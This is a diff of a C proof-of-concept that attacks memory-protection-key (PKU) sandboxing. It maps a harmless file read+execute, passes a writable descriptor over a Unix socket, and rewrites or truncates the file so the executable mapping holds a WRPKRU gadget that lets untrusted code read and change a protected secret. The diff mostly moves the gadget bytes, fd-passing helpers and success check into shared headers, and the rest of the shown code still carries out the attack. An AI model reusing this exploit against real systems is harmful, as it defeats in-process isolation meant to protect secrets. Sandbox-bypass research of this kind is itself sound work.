@@ -17,72 +17,17 @@
  *                O_TRUNC.
  *
  * With a key, the gadget runs from untrusted code and reads the secret. */
-#include <fcntl.h>
-#include <sys/socket.h>
 #include <sys/stat.h>
 
 #define ATK_STARTUP trunc_startup
 #include "atk_common.h"
+#include "atk_file_exec.h"
 
-/* mov eax,edi; xor ecx,ecx; xor edx,edx; wrpkru; ret */
-static const uint8_t gadget[] = { 0x89, 0xf8, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3 };
 static const uint8_t clean[] = { 0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3 };   /* mov eax,42; ret */
 
 static volatile uint8_t *startup_map;   /* mapped read+execute by start-up */
 static int startup_sock[2] = { -1, -1 };
 static char startup_path[80];
-
-static int make_file(const char *path)
-{
-	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
-	int ok = fd >= 0 && ftruncate(fd, 4096) == 0 && pwrite(fd, clean, sizeof clean, 0) == (ssize_t)sizeof clean;
-
-	if (fd >= 0)
-		close(fd);
-	return ok ? 0 : -1;
-}
-
-static int send_fd(int sock, int fd)
-{
-	char data = 'f';
-	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
-	struct iovec iov = { &data, 1 };
-	struct msghdr msg;
-	struct cmsghdr *cm;
-
-	memset(&msg, 0, sizeof msg);
-	memset(&u, 0, sizeof u);
-	msg.msg_iov = &iov;
-	msg.msg_iovlen = 1;
-	msg.msg_control = u.buf;
-	msg.msg_controllen = sizeof u.buf;
-	cm = CMSG_FIRSTHDR(&msg);
-	cm->cmsg_level = SOL_SOCKET;
-	cm->cmsg_type = SCM_RIGHTS;
-	cm->cmsg_len = CMSG_LEN(sizeof(int));
-	memcpy(CMSG_DATA(cm), &fd, sizeof fd);
-	return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
-}
-
-static int recv_fd(int sock)
-{
-	char data;
-	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
-	struct iovec iov = { &data, 1 };
-	struct msghdr msg;
-	struct cmsghdr *cm;
-	int fd;
-
-	memset(&msg, 0, sizeof msg);
-	msg.msg_iov = &iov;
-	msg.msg_iovlen = 1;
-	msg.msg_control = u.buf;
-	msg.msg_controllen = sizeof u.buf;
-	if (recvmsg(sock, &msg, 0) != 1 || !(cm = CMSG_FIRSTHDR(&msg)) || cm->cmsg_type != SCM_RIGHTS)
-		return -1;
-	memcpy(&fd, CMSG_DATA(cm), sizeof fd);
-	return fd;
-}
 
 /* A clean file at PATH, mapped read+execute, an O_RDWR fd to it in SV[0]. */
 static volatile uint8_t *map_clean(const char *path, int sv[2])
@@ -90,9 +35,9 @@ static volatile uint8_t *map_clean(const char *path, int sv[2])
 	int fd;
 	void *x;
 
-	if (make_file(path) != 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
+	if (atk_make_file(path, clean, sizeof clean) != 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
 		return NULL;
-	if (send_fd(sv[0], fd) != 0)
+	if (atk_send_fd(sv[0], fd) != 0)
 		return NULL;
 	close(fd);
 	if ((fd = open(path, O_RDONLY)) < 0)
@@ -112,7 +57,7 @@ static void trunc_startup(void)
  * look at X: 1 the gadget is executable there, 0 not, -1 set-up error. */
 static int rewrite(const char *mode, const char *path, int sock, volatile uint8_t *x)
 {
-	int wfd = recv_fd(sock), tfd, won = 0;
+	int wfd = atk_recv_fd(sock), tfd, won;
 
 	if (wfd < 0)
 		return -1;
@@ -130,31 +75,18 @@ static int rewrite(const char *mode, const char *path, int sock, volatile uint8_
 			close(tfd);
 	}
 	{
-		uint8_t now[sizeof gadget];
+		uint8_t now[sizeof atk_gadget];
 
-		if (pwrite(wfd, gadget, sizeof gadget, 0) != (ssize_t)sizeof gadget)
+		if (pwrite(wfd, atk_gadget, sizeof atk_gadget, 0) != (ssize_t)sizeof atk_gadget)
 			atk_say("%s: rewriting the file: %s", mode, strerror(errno));
-		else if (pread(wfd, now, sizeof now, 0) == (ssize_t)sizeof now && !memcmp(now, gadget, sizeof now))
+		else if (pread(wfd, now, sizeof now, 0) == (ssize_t)sizeof now && !memcmp(now, atk_gadget, sizeof now))
 			atk_say("%s: the file now holds WRPKRU (%s)", mode,
-			        lseek(wfd, 0, SEEK_END) == (off_t)sizeof gadget ? "truncated, then rewritten" : "rewritten, not truncated");
+			        lseek(wfd, 0, SEEK_END) == (off_t)sizeof atk_gadget ? "truncated, then rewritten" : "rewritten, not truncated");
 	}
 	close(wfd);
-	if (x[6] == 0x0f && x[7] == 0x01 && x[8] == 0xef) {
-		atk_say("%s: the read+execute mapping now holds WRPKRU", mode);
-		won = 1;
-		if (atk_pkey > 0) {
-			uint32_t (*fn)(uint32_t) = (uint32_t (*)(uint32_t))(uintptr_t)x;
-			uint8_t got;
-
-			fn(atk_pkru_t);   /* untrusted code executes WRPKRU */
-			got = atk_secret[0];
-			atk_secret[0] = (uint8_t)(got + 1);
-			atk_untrusted();
-			atk_say("%s: WRPKRU ran from untrusted code: secret byte 0x%02x read and changed", mode, got);
-		}
-	} else {
+	won = atk_gadget_won(mode, x);
+	if (!won)
 		atk_say("%s: the executable bytes are the inspected ones (0x%02x 0x%02x ...)", mode, x[0], x[1]);
-	}
 	return won;
 }
 
